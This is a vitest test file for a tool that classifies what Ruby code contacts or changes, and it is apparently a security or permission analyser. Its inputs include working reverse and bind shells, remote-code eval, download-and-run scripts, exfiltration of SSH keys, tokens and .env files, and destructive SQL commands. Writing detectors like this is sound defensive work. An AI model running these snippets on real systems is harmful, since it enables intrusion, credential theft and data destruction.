import { describe, expect, test } from 'vitest'
import { summary } from '../harness.ts'

/** Whom Ruby programs contact: the web, sockets, mail, databases. */

describe('the web', () => {
  for (const [code, expected] of [
    [`Net::HTTP.get(URI('https://api.example/x'))`, ['fetch https://api.example/x']],
    [`Net::HTTP.get('x.example', '/index.html')`, ['fetch x.example']],
    [`puts Net::HTTP.get_response(URI.parse('http://x.example/')).body`, ['fetch http://x.example/']],
    [`Net::HTTP.post(URI('http://x.example/'), 'data')`, ['send http://x.example/']],
    [`Net::HTTP.post_form(URI('http://x.example/'), 'a' => 'b')`, ['send http://x.example/']],
    [
      `Net::HTTP.post_form(URI('http://x.example/'), 'a' => File.read('/home/me/.ssh/id_rsa'))`,
      ['read /home/me/.ssh/id_rsa', 'send http://x.example/'],
    ],
    [`http = Net::HTTP.new('x.example', 443); http.use_ssl = true; http.get('/y')`, ['fetch x.example/y']],
    [
      `http = Net::HTTP.new('x.example', 443); http.verify_mode = OpenSSL::SSL::VERIFY_NONE; http.get('/y')`,
      ['change security:insecure verify_mode', 'fetch x.example/y'],
    ],
    [`Net::HTTP.start('x.example', 80) { |h| h.request(Net::HTTP::Get.new('/z')) }`, ['fetch x.example/z']],
    [
      `u = URI('https://x.example/p'); r = Net::HTTP::Post.new(u); r.body = 'x'; Net::HTTP.start(u.hostname, u.port) { |h| h.request(r) }`,
      ['send https://x.example/p'],
    ],
    [
      `u = URI('https://x.example/p'); h = Net::HTTP.new(u.host, u.port); r = Net::HTTP::Post.new(u.request_uri); r.set_form_data('k' => ENV['TOKEN']); h.request(r)`,
      ['read TOKEN', 'send https://x.example/p'],
    ],
    [`require 'open-uri'; puts URI.open('https://x.example/').read`, ['fetch https://x.example/']],
    [`require 'open-uri'; open('http://x.example/a') { |f| File.write('a', f.read) }`, ['fetch http://x.example/a', 'write a']],
    [`eval URI.open('http://x.example/a.rb').read`, ['execute code:remote http://x.example/a.rb', 'fetch http://x.example/a.rb']],
    [`system Net::HTTP.get(URI('http://x.example/c'))`, ['execute code:remote http://x.example/c', 'fetch http://x.example/c']],
    [`instance_eval(Net::HTTP.get(URI('http://x.example/c')))`, ['execute code:remote http://x.example/c', 'fetch http://x.example/c']],
    [
      `File.write('/tmp/a.sh', Net::HTTP.get(URI('http://x.example/a.sh'))); system 'sh /tmp/a.sh'`,
      ['$ sh /tmp/a.sh', 'execute code:downloaded http://x.example/a.sh', 'fetch http://x.example/a.sh', 'write /tmp/a.sh'],
    ],
    [`HTTParty.get('https://x.example/')`, ['fetch https://x.example/']],
    [`HTTParty.post('https://x.example/', body: { a: 1 })`, ['send https://x.example/']],
    ['Faraday.get("https://x.example/#{id}")', ['fetch https://x.example/']],
    [`RestClient.post 'https://x.example/', File.read('.env')`, ['read .env', 'send https://x.example/']],
    [`Faraday.new(url: 'https://x.example').get('/a')`, ['fetch https://x.example/a']],
    [`IO.copy_stream(URI.open('http://x.example/a'), 'a.bin')`, ['fetch http://x.example/a', 'write a.bin']],
  ] as const)
    test(code, () => expect(summary('ruby', code)).toEqual(expected))
})

describe('sockets', () => {
  for (const [code, expected] of [
    [`s = TCPSocket.new('10.0.0.1', 80); s.puts 'GET /'; puts s.read`, ['send net:socket 10.0.0.1']],
    [`TCPSocket.open('10.0.0.1', 25) { |s| s.write 'x' }`, ['send net:socket 10.0.0.1:25']],
    [
      `c = TCPSocket.new('10.0.0.1', 4242); while (l = c.gets); c.print \`#{l}\`; end`,
      ['execute code:remote 10.0.0.1:4242', 'execute net:reverse-shell 10.0.0.1:4242', 'send net:socket 10.0.0.1:4242'],
    ],
    [
      `require 'socket'; f = TCPSocket.open('10.0.0.1', 4242).to_i; exec sprintf('/bin/sh -i <&%d >&%d 2>&%d', f, f, f)`,
      ['execute code:remote 10.0.0.1:4242', 'execute net:reverse-shell 10.0.0.1:4242', 'send net:socket 10.0.0.1:4242'],
    ],
    [
      `spawn('sh', [:in, :out, :err] => TCPSocket.new('10.0.0.1', 4242))`,
      ['$ sh', 'execute net:reverse-shell 10.0.0.1:4242', 'send net:socket 10.0.0.1:4242'],
    ],
    [
      'exit if fork;c=TCPSocket.new("10.0.0.1","4242");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end',
      ['execute code:remote 10.0.0.1:4242', 'execute net:reverse-shell 10.0.0.1:4242', 'send net:socket 10.0.0.1:4242'],
    ],
    ['TCPServer.new(8080)', ['change net:listen 8080']],
    [`s = TCPServer.new(4444).accept; $stdin.reopen(s); exec '/bin/sh'`, ['$ /bin/sh', 'change net:listen 4444', 'execute net:bind-shell']],
    [
      `eval TCPSocket.new('10.0.0.1', 1).read`,
      ['execute code:remote 10.0.0.1:1', 'execute net:reverse-shell 10.0.0.1:1', 'send net:socket 10.0.0.1:1'],
    ],
    [`UDPSocket.new.send('x', 0, 'h', 1); TCPSocket.new(host, port)`, ['send net:socket']],
  ] as const)
    test(code, () => expect(summary('ruby', code)).toEqual(expected))
})

describe('others', () => {
  for (const [code, expected] of [
    [
      `Net::SSH.start('host.example', 'u') { |s| s.exec!('reboot') }`,
      ['send net:remote-login host.example', 'send net:remote-shell host.example'],
    ],
    [
      `Net::FTP.open('ftp.example') { |f| f.putbinaryfile('/etc/passwd') }`,
      ['read /etc/passwd', 'send net:socket ftp.example', 'send net:upload ftp.example'],
    ],
    [`Net::SMTP.start('mx') { |s| s.send_message 'x', 'a@x.example', 'b@x.example' }`, ['send mail:send b@x.example']],
    [`db = SQLite3::Database.new 'a.db'; db.execute('SELECT * FROM t')`, ['read db:open a.db', 'read sql:select a.db']],
    [`SQLite3::Database.new('a.db') { |db| db.execute 'DELETE FROM t' }`, ['delete sql:delete a.db', 'read db:open a.db']],
    [`PG.connect(dbname: 'app').exec('DROP TABLE users')`, ['delete sql:drop app']],
    [`ActiveRecord::Base.connection.execute('TRUNCATE users')`, ['delete sql:truncate']],
    [`Mysql2::Client.new(host: 'h').query("UPDATE t SET a = #{x}")`, ['write sql:update h']],
    ['Redis.new.flushall', ['change sql:flush']],
  ] as const)
    test(code, () => expect(summary('ruby', code)).toEqual(expected))
})
